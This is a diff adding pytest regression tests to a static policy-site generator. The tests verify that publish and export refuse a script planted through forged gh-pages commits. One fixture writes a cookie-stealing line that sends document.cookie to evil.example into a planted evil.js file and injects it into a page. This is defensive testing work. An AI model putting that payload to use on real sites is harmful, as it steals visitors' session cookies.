@@ -2,12 +2,15 @@
 blob id (safety hunt 50), on a temporary project's repository."""
 from __future__ import annotations
 
+import json
 import subprocess
+from pathlib import Path
 
 import pytest
 
+from helpers import git as git_cmd
 from policy_repo import new_project
-from policysite import git, servedpages
+from policysite import assets, compact, git, manifest as mf, servedpages
 from policysite.project import opened
 
 pytestmark = pytest.mark.usefixtures("no_identity")
@@ -73,3 +76,87 @@ def test_an_xml_file_a_browser_runs_as_a_page_is_refused_and_a_sitemap_is_not(tm
         assert servedpages.unsafe(site, {"en/2021-02-17/sitemap.xml": listing["en/2021-02-17/sitemap.xml"]}) == []
         kept = servedpages.passcache.blobs_passed(site.passed, text=False, scripts=servedpages._XML_RULES)
         assert kept == {listing["en/2021-02-17/sitemap.xml"][1]}
+
+
+def _on_branch(project, tmp_path, edit, subject: str) -> None:
+    """A commit of gh-pages by hand, `edit` changing a checkout of it, under a subject of its choosing."""
+    work = tmp_path / "pages"
+    git_cmd(project.root, "worktree", "add", "-q", str(work), "gh-pages")
+    edit(work)
+    git_cmd(work, "add", "-A")
+    git_cmd(work, "commit", "-q", "-m", subject)
+    git_cmd(project.root, "worktree", "remove", "--force", str(work))
+
+
+def test_a_script_a_forged_shared_folder_serves_is_refused_by_publish_and_export(tmp_path):
+    """Safety hunt 50, part 2: a hand commit named as a rebuild added a shared theme folder holding a script, with a
+    list whose digest names the folder, and a link to it in an older version's page with that page's digest in its
+    manifest; one named as publishing's then edited the history page. The output check allows any local script and the
+    Content-Security-Policy any of the site's origin: `policy publish` and `policy export` exited 0 and served it. Now
+    both refuse, naming the script and `policy history --rebuild`, and leave the branch and the folder as they were."""
+    project = new_project(tmp_path / "project")
+    project.commit("2021-02-17")
+    project.publish()
+    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
+    project.publish()
+    evil = b"fetch('https://evil.example/?'+document.cookie);\n"
+    files = {"javascripts/evil.js": mf.sha256(evil)}
+    digest = assets.files_digest(files)
+
+    def forge(work):
+        (work / assets.FOLDER / digest / "javascripts").mkdir(parents=True)
+        (work / assets.FOLDER / digest / "javascripts" / "evil.js").write_bytes(evil)
+        (work / assets.manifest_path(digest)).write_bytes(assets.manifest_bytes(files))
+        path = work / "en" / "2021-02-17" / "index.html"
+        page = path.read_text(encoding="utf-8").replace(
+            "</head>", f'<script src="../../{assets.FOLDER}/{digest}/javascripts/evil.js"></script></head>', 1)
+        path.write_text(page, encoding="utf-8")
+        kept = work / "manifest" / "2021-02-17.json"
+        record = json.loads(kept.read_text(encoding="utf-8"))
+        record["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
+        kept.write_bytes(mf.VersionManifest.loads(json.dumps(record)).dumps())
+
+    def touch(work):
+        history = work / "fr" / "history" / "index.html"
+        history.write_bytes(history.read_bytes() + b"\n")
+
+    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
+    _on_branch(project, tmp_path, touch, "Update the history, compare and feed pages of 2 dated version(s)")
+    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
+    before = project.branch()
+    script = f"{assets.FOLDER}/{digest}/javascripts/evil.js"
+    for args in (("publish",), ("export", "--site-dir", str(tmp_path / "public"))):
+        done = project.run(*args)
+        assert done.returncode == 1, (args, done.stderr)
+        assert f"error: {script}: " in done.stderr and "policy history --rebuild" in done.stderr, done.stderr
+        assert "Traceback" not in done.stderr
+    assert project.branch() == before
+    assert not (tmp_path / "public").exists()
+
+
+def test_a_script_is_the_themes_when_the_installed_theme_or_the_source_branchs_overrides_held_it(tmp_path):
+    """What vouches for a served script: a file of the installed theme as it is, or as a build compacts it; a script
+    the source branch's `overrides/` held in an older commit (an earlier generator's copy, an older version built with
+    it), compacted as a build writes it. Anything else is named; what passed is kept by blob id."""
+    project = new_project(tmp_path / "project")
+    project.commit("2021-02-17")
+    own = project.root / "overrides" / "assets" / "javascripts" / "policy.js"
+    current = own.read_text(encoding="utf-8")
+    older = current + "/* an earlier generator's copy */\nvar earlier = 1;\n"
+    own.write_text(older, encoding="utf-8")
+    project.commit_all("overrides: an earlier generator's policy.js")
+    own.write_text(current, encoding="utf-8")
+    project.commit_all("overrides: this generator's policy.js (policy upgrade)")
+    import material
+
+    bundle = next((Path(material.__file__).parent / "templates" / "assets" / "javascripts").glob("bundle.*.min.js"))
+    listing = {"assets/a/javascripts/bundle.min.js": ("100644", _blob(project.root, bundle.read_text("utf-8"))),
+               "assets/a/javascripts/policy.js": ("100644", _blob(project.root, compact.script(older))),
+               "assets/b/javascripts/policy.js": ("100644", _blob(project.root, older + "\nevil();\n"))}
+    with opened(project.root) as site:
+        assert servedpages.unsafe(site, listing) == [
+            "assets/b/javascripts/policy.js: refused: a script neither the installed theme nor the source branch's "
+            "overrides/ hold (a page may run any script of the site's origin); the branch alone cannot vouch for a "
+            "script: remove it, or rebuild every version (`policy history --rebuild`)"]
+        kept = servedpages.passcache.blobs_passed(site.passed, text=False, scripts=servedpages._SCRIPT_RULES)
+        assert kept == {listing["assets/a/javascripts/bundle.min.js"][1], listing["assets/a/javascripts/policy.js"][1]}
